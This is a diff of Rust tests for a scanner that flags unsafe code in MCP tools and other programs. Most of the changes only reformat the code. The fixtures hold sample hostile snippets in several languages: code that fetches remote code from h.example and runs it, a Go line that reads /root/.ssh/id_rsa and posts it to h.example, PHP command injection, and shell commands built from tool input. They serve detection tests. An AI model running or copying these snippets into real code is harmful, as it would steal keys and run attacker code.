@@ -87,28 +87,50 @@ fn a_secret_is_followed_into_a_file_beside() {
 fn what_is_quoted_or_given_as_a_list_is_no_command() {
     let tool = "import subprocess, shlex\n@mcp.tool()\ndef run(name: str):\n";
     assert_eq!(
-        found(&format!("{tool}    subprocess.run(f'git log {{name}}', shell=True)\n")),
+        found(&format!(
+            "{tool}    subprocess.run(f'git log {{name}}', shell=True)\n"
+        )),
         rule("code.command-from-tool", 4)
     );
     assert_eq!(
-        found(&format!("{tool}    name = shlex.quote(name)\n    subprocess.run(f'git log {{name}}', shell=True)\n")),
+        found(&format!(
+            "{tool}    name = shlex.quote(name)\n    subprocess.run(f'git log {{name}}', shell=True)\n"
+        )),
         []
     );
-    assert_eq!(found(&format!("{tool}    subprocess.run(['git', 'log', name])\n")), []);
+    assert_eq!(
+        found(&format!("{tool}    subprocess.run(['git', 'log', name])\n")),
+        []
+    );
     assert_eq!(
         found(&format!("{tool}    subprocess.run(['bash', '-c', name])\n")),
         rule("code.command-from-tool", 4)
     );
-    assert_eq!(found(&format!("{tool}    cmd = ['git', name]\n    subprocess.run(cmd)\n")), []);
+    assert_eq!(
+        found(&format!(
+            "{tool}    cmd = ['git', name]\n    subprocess.run(cmd)\n"
+        )),
+        []
+    );
 }
 
 #[test]
 fn a_value_that_may_be_there_is_there() {
     let tool = "import os\n@mcp.tool()\ndef run(a, b):\n    c = 'ls'\n";
-    assert_eq!(found(&format!("{tool}    if b:\n        c = a\n    os.system(c)\n")), rule("code.command-from-tool", 7));
-    assert_eq!(found(&format!("{tool}    if b:\n        c = a\n        c = 'id'\n    os.system(c)\n")), []);
     assert_eq!(
-        found(&format!("{tool}    for x in b:\n        os.system(c)\n        c = c + x\n")),
+        found(&format!("{tool}    if b:\n        c = a\n    os.system(c)\n")),
+        rule("code.command-from-tool", 7)
+    );
+    assert_eq!(
+        found(&format!(
+            "{tool}    if b:\n        c = a\n        c = 'id'\n    os.system(c)\n"
+        )),
+        []
+    );
+    assert_eq!(
+        found(&format!(
+            "{tool}    for x in b:\n        os.system(c)\n        c = c + x\n"
+        )),
         rule("code.command-from-tool", 6)
     );
 }
@@ -123,7 +145,10 @@ fn names_that_are_put_together_are_read() {
         "f = globals()[''.join(['ev', 'al'])]\n",
     ] {
         let findings = read(&[("a.py", text)]);
-        assert!(findings.iter().any(|finding| finding.rule == "code.hidden-name"), "{text}: {findings:?}");
+        assert!(
+            findings.iter().any(|finding| finding.rule == "code.hidden-name"),
+            "{text}: {findings:?}"
+        );
     }
     assert_eq!(found("import os\ngetattr(os, 'sep')\n__import__('json')\n"), []);
 }
@@ -139,10 +164,19 @@ fn what_is_too_much_is_told() {
 #[test]
 fn nothing_is_too_deep() {
     const DEEP: usize = 100_000;
+    const LESS: usize = 10_000;
     for (language, path) in LANGUAGES {
         let start = if language == Language::Php { "<?php " } else { "" };
-        for (open, close) in [("(", ")"), ("[", "]"), ("{", "}"), ("a(", ")"), ("-", ""), ("a.", ""), ("f(lambda: ", ")")] {
-            let text = format!("{start}x = {}1{}", open.repeat(DEEP), close.repeat(DEEP));
+        for (open, close, times) in [
+            ("(", ")", DEEP),
+            ("[", "]", DEEP),
+            ("{", "}", LESS),
+            ("a(", ")", LESS),
+            ("-", "", LESS),
+            ("a.", "", LESS),
+            ("f(lambda: ", ")", LESS),
+        ] {
+            let text = format!("{start}x = {}1{}", open.repeat(times), close.repeat(times));
             let findings = read(&[(path, &text)]);
             assert!(findings.len() < 10, "{path} {open}: {}", findings.len());
         }
@@ -153,8 +187,14 @@ fn nothing_is_too_deep() {
 
 /// A program of each language that has a finding.
 const PROGRAMS: [(&str, &str); 7] = [
-    ("a.py", "import requests\nexec(requests.get('https://h.example/x').text)\n"),
-    ("a.js", "const cp = require('child_process');\nfetch('https://h.example').then(r => r.text()).then(t => eval(t));\n"),
+    (
+        "a.py",
+        "import requests\nexec(requests.get('https://h.example/x').text)\n",
+    ),
+    (
+        "a.js",
+        "const cp = require('child_process');\nfetch('https://h.example').then(r => r.text()).then(t => eval(t));\n",
+    ),
     (
         "a.go",
         "package main\nimport (\"net/http\"; \"os\"; \"strings\")\nfunc main() { d, _ := os.ReadFile(\"/root/.ssh/id_rsa\"); http.Post(\"https://h.example\", \"t\", strings.NewReader(string(d))) }\n",
@@ -168,20 +208,27 @@ const PROGRAMS: [(&str, &str); 7] = [
         "class A { void a() throws Exception { String s = new String(new URL(\"https://h.example\").openStream().readAllBytes()); Runtime.getRuntime().exec(s); } }\n",
     ),
     ("a.php", "<?php $c = $_GET['c']; system('ls ' . $c);\n"),
-    ("a.rb", "require 'net/http'\neval(Net::HTTP.get(URI('https://h.example/x')))\n"),
+    (
+        "a.rb",
+        "require 'net/http'\neval(Net::HTTP.get(URI('https://h.example/x')))\n",
+    ),
 ];
 
 #[test]
 fn each_language_is_read() {
     for (path, text) in PROGRAMS {
         let findings = read(&[(path, text)]);
-        assert!(findings.iter().any(|finding| finding.severity >= Severity::High), "{path}: {findings:?}");
+        assert!(
+            findings.iter().any(|finding| finding.severity >= Severity::High),
+            "{path}: {findings:?}"
+        );
     }
 }
 
 #[test]
 fn what_stands_behind_a_mistake_is_read() {
-    let text = "def a(:\n  x = = 1\n\nimport requests\nexec(requests.get('https://h.example/x').text)\n";
+    let text =
+        "x = = 1\ndef a(x, 1):\n    pass\nimport requests\nexec(requests.get('https://h.example/x').text)\n";
     assert_eq!(found(text), rule("code.remote-code", 5));
 }
 
